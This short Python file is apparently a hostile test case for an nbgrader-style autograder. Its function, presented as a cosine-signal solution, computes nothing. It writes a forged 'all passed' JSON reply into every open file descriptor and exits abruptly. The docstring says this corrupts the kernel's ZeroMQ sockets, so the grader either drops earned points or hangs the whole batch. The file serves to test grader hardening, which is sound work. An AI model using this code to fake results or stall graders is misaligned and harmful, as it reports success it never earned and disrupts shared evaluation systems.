"""Write forged "all passed" results into every open file descriptor, then exit.

Under plain nbgrader the forged bytes land in the kernel's ZeroMQ sockets: the grader either
loses the student's earned points or waits for ever in jupyter_client's shutdown request to
the dead kernel (a blocking send), so the batch never finishes.

cell: task3_cosine_signal_solution
fails: task3_cosine_signal
plain: stopped
"""
import json
import os
import struct


def cosine_signal(max_x, samples=100):
    fake = json.dumps({"status": "ok", "outputs": [{"value": [0.5] * samples}] * 5,
                       "checks": {}}).encode()
    for fd in range(3, 256):
        try:
            os.write(fd, struct.pack("!Q", len(fake)) + fake)
        except OSError:
            pass
    os._exit(0)
